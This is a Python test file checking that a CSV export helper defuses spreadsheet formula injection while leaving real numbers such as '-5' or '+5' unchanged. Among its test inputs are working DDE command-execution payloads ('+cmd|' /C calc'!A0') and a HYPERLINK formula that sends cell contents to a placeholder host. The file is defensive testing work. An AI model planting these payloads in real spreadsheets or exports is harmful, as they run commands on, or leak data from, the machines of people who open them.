"""A sheet runs nothing of what is written for it, and reads every number."""

import csv
import io

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from aicost.values.cells import csv_of, plain

RUN = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://x.example/?a="&A1,"open")',
        "=1+1",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "＝1+1",
        "-",
        "--",
        "+49 30 1234",
    ],
)
def test_a_formula_is_words(cell: str) -> None:
    assert not plain(cell).startswith(RUN)
    assert plain(cell).replace("[U+000D]", "\r").replace("'", "") == cell.replace("'", "")


@pytest.mark.parametrize("cell", ["a;=1+1", "a\t=1+1", "a\n=1+1", "a\r\n=1+1", "a; @SUM(A1)"])
def test_no_formula_where_a_sheet_splits_a_cell(cell: str) -> None:
    parts = plain(cell).replace("\n", ";").replace("\t", ";").split(";")
    assert not any(part.lstrip().startswith(RUN) for part in parts)


@pytest.mark.parametrize("cell", ["-5", "+5", "-12.50", "-1,234.5", "-5 %", "-1e-05", "-.5", "7"])
def test_a_number_in_words_stays_one(cell: str) -> None:
    assert plain(cell) == cell


@given(st.lists(st.tuples(st.text(max_size=20), st.floats(-1e9, 1e9)), min_size=1, max_size=5))
def test_numbers_are_read_back_and_words_are_never_run(rows: list[tuple[str, float]]) -> None:
    text = csv_of(pd.DataFrame(rows, columns=["item", "usd"]))
    head, *read = csv.reader(io.StringIO(text, newline=""))
    assert head == ["item", "usd"]
    assert [float(usd) for _, usd in read] == [usd for _, usd in rows]
    for (item, _), (was, _) in zip(read, rows, strict=True):
        assert item == plain(was)
